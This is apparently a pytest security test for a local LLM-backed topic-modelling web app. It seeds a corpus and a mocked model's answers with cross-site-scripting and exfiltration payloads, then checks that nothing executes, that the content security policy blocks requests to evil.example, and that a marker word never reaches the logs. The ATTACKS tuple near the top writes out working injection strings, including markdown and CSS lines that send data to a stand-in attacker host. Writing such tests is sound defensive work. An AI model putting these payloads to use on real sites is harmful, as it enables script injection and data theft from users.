"""The real server under attack, in a real browser: nothing of a corpus or of a model's answer runs
or loads, and nothing of either stands in what the server writes down."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import pytest
from browser import ask, go, visit
from conftest import App, Seen
from ollama_server import OllamaServer, Reply, call

from topicllama.tools.documents import Document
from topicllama.tools.topic_model import Topic, TopicModel
from topicllama.tools.workspace import Workspace

RUNS = "window.ran=(window.ran||0)+1"
ATTACKS = (
    f'<img src=x onerror="{RUNS}">', f"<script>{RUNS}</script>", f'"><svg onload="{RUNS}">',
    "![x](http://evil.example/p.png?q=words)", f"[click](javascript:{RUNS})",
    "<style>@import url(http://evil.example/s.css)</style>", "</title></style></textarea><b>",
    "<iframe src=//evil.example></iframe>", f"' autofocus onfocus='{RUNS}' x='",
    "<div style=\"background:url(http://evil.example/b.png)\">", "<base href=//evil.example>",
)  # fmt: skip
# Letters only, so that it is one word to every tokeniser; the kind stands before it.
SECRET = "zzsecret"
VIEWS = ("topics", "topics/0", "documents?topic=0", "map", "trends", "quality", "data")


def told(kind: str, attack: str) -> str:
    return f"{kind}{SECRET} {attack}"


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace with an attack and a marked word in every field that a person or file fills."""
    workspace = Workspace(tmp_path_factory.mktemp("hostile") / "ws")
    workspace.corpus.add(
        Document(
            f"d{n}", f"The fire came near. {told('text', attack)}", title=told("title", attack),
            date=f"2001-0{n % 9 + 1}-01", label=told("label", attack),
            source=told("file", attack).replace("/", "") + ".csv",
            metadata={told("column", attack): told("value", attack)},
        )
        for n, attack in enumerate(ATTACKS)
    )  # fmt: skip
    ids = tuple(workspace.corpus.ids())
    topics = tuple(
        Topic(n, told("name", attack), "person", (told("word", attack), "fire"), 0.5, 5,
              told("about", attack), representative=ids[:2])
        for n, attack in enumerate((ATTACKS[0], ATTACKS[2]))
    )  # fmt: skip
    weights = np.tile(np.array([[0.8, 0.2], [0.2, 0.8]], np.float32), (len(ids), 1))[: len(ids)]
    words = ("fire", "near", f"word{SECRET}")
    workspace.save_model(TopicModel("lda", words, words, np.ones((2, 3), np.float32), weights, ids,
                                    topics, why="."))  # fmt: skip
    return workspace.root


@pytest.fixture(scope="module")
def attacked(folder: Path, app: Callable[..., App]) -> Any:
    """The server, and an Ollama whose model answers with every attack."""

    def obeys(body: dict[str, Any]) -> Reply:
        if any(message["role"] == "tool" for message in body["messages"]):
            return Reply("\n\n".join(told("answer", attack) for attack in ATTACKS) + " [1]")
        return call("search_documents", query="fire")

    with OllamaServer(behaviour=obeys) as server:
        options = ("--log", "json", "--log-level", "debug")
        yield app(folder, options=options, OLLAMA_HOST=server.url)


def test_nothing_of_a_corpus_or_an_answer_runs_loads_or_is_written_down(
    attacked: App, chromium: Any, seen: Seen
) -> None:
    page = visit(chromium, attacked.url, seen)
    said = ask(page, f"what is said about fire? {told('question', ATTACKS[0])}")
    assert f"answer{SECRET}" in said
    page.locator("#tl-chat .tl-cite").first.click()
    page.locator("#tl-document .tl-text").wait_for()
    for view in VIEWS:
        go(page, f"#/{view}")
    assert page.evaluate("window.ran ?? 0") == 0
    assert seen.elsewhere == []
    assert_policy(page)
    page.context.close()
    failing = httpx.post(attacked.url + "/tl/do/topics/rename", content=f"{{body{SECRET}",
                         headers={"x-topicllama": "1"})  # fmt: skip
    assert failing.status_code == 400 and SECRET not in failing.text
    assert_no_word_is_written_down(attacked)


def assert_policy(page: Any) -> None:
    """Were a script or an image to get onto the page after all, it could reach nobody."""
    blocked = page.evaluate("""async () => {
        const seen = [], note = (event) => seen.push(event.effectiveDirective);
        document.addEventListener("securitypolicyviolation", note);
        new Image().src = "http://evil.example/p.png?q=words";
        await fetch("http://evil.example/").catch(() => 0);
        const frame = document.createElement("iframe");
        frame.src = "http://evil.example/";
        document.body.append(frame);
        for (let i = 0; i < 100 && seen.length < 3; i++) await new Promise(requestAnimationFrame);
        return seen.sort();
    }""")
    assert {"connect-src", "frame-src", "img-src"} <= set(blocked), blocked


def assert_no_word_is_written_down(attacked: App) -> None:
    attacked.close()
    files = [path for path in (attacked.workspace.root / "logs").rglob("*") if path.is_file()]
    written = ["".join(attacked.said), *(path.read_text("utf-8") for path in files)]
    assert files and '"turn"' in written[0] and "/tl/do/" in written[0], written[0]
    for text in written:
        assert not re.findall(rf"\w*{SECRET}.{{0,40}}", text)
